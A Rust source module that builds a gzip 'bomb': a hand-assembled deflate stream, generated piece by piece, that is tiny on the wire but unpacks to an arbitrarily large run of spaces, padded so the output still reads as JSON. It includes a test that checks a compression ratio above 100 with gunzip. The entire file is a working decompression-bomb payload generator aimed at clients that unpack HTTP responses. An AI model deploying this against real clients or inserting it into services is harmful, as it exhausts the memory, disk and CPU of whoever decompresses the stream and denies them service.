//! A gzip stream that is small on the wire and large when unpacked: spaces,
//! which JSON allows anywhere, said once and then repeated by reference.

/// The longest match that deflate has.
const MATCH: u64 = 258;

/// How many matches go out in one piece: 64 KiB on the wire.
const PIECE: u64 = 40_000;

/// A stream that unpacks to `left` spaces, piece by piece, made as it is read.
pub(super) struct Bomb {
    bits: u64,
    count: u32,
    left: u64,
    checksum: u32,
    size: u32,
    stage: Stage,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Stage {
    Head,
    Body,
    Over,
}

impl Bomb {
    pub(super) fn of(bytes: u64) -> Self {
        // The format keeps the size modulo 2^32.
        let size = u32::try_from(bytes % (1 << 32)).expect("a remainder of 2^32 has 32 bits");
        Self { bits: 0, count: 0, left: bytes, checksum: checksum(bytes), size, stage: Stage::Head }
    }

    /// Appends bits, the lowest first, as deflate packs its fields.
    fn push(&mut self, out: &mut Vec<u8>, value: u64, length: u32) {
        self.bits |= value << self.count;
        self.count += length;
        while self.count >= 8 {
            out.extend(self.bits.to_le_bytes().first());
            self.bits >>= 8;
            self.count -= 8;
        }
    }

    /// Appends a Huffman code, which stands with its highest bit first.
    fn code(&mut self, out: &mut Vec<u8>, code: u64, length: u32) {
        self.push(out, code.reverse_bits() >> (64 - length), length);
    }

    fn space(&mut self, out: &mut Vec<u8>) {
        self.code(out, 0x30 + u64::from(b' '), 8);
    }

    fn end(&mut self, out: &mut Vec<u8>) {
        for _ in 0..std::mem::take(&mut self.left) {
            self.space(out);
        }
        // The end of the block, and what is missing to a whole byte.
        self.code(out, 0, 7);
        self.push(out, 0, (8 - self.count) % 8);
        out.extend(self.checksum.to_le_bytes());
        out.extend(self.size.to_le_bytes());
        self.stage = Stage::Over;
    }
}

impl Iterator for Bomb {
    type Item = Vec<u8>;

    fn next(&mut self) -> Option<Vec<u8>> {
        let mut out = Vec::new();
        if self.stage == Stage::Head {
            out.extend([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
            // The last block, with the fixed codes.
            self.push(&mut out, 0b011, 3);
            if self.left > 0 {
                self.space(&mut out);
                self.left -= 1;
            }
            self.stage = Stage::Body;
            return Some(out);
        }
        if self.stage == Stage::Over {
            return None;
        }
        for _ in 0..PIECE.min(self.left / MATCH) {
            // Length 258 is code 285, distance 1 is code 0.
            self.code(&mut out, 0b1100_0101, 8);
            self.code(&mut out, 0, 5);
            self.left -= MATCH;
        }
        if self.left < MATCH {
            self.end(&mut out);
        }
        Some(out)
    }
}

/// The CRC-32 of so many spaces, by doubling.
fn checksum(bytes: u64) -> u32 {
    let mut whole = crc32fast::Hasher::new();
    let mut part = crc32fast::Hasher::new();
    part.update(b" ");
    let mut left = bytes;
    while left > 0 {
        if left % 2 == 1 {
            whole.combine(&part);
        }
        let same = part.clone();
        part.combine(&same);
        left /= 2;
    }
    whole.finalize()
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;
    use std::process::{Command, Stdio};

    use super::*;

    /// Another implementation unpacks it and checks sum and size.
    #[test]
    fn gunzip_finds_spaces() {
        for bytes in [0, 1, 257, 258, 259, 1_000_003, 30_000_000] {
            let packed: Vec<u8> = Bomb::of(bytes).flatten().collect();
            let mut gunzip = Command::new("gunzip");
            let mut child = gunzip.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
            let mut input = child.stdin.take().unwrap();
            let writer = std::thread::spawn(move || input.write_all(&packed).map(|()| packed.len()));
            let output = child.wait_with_output().unwrap();
            let length = writer.join().unwrap().unwrap();
            assert!(output.status.success(), "{bytes} bytes");
            assert_eq!(u64::try_from(output.stdout.len()).unwrap(), bytes);
            assert!(output.stdout.iter().all(|byte| *byte == b' '), "{bytes} bytes");
            assert!(bytes < 1_000_000 || bytes / u64::try_from(length).unwrap() > 100, "{bytes} bytes");
        }
    }
}
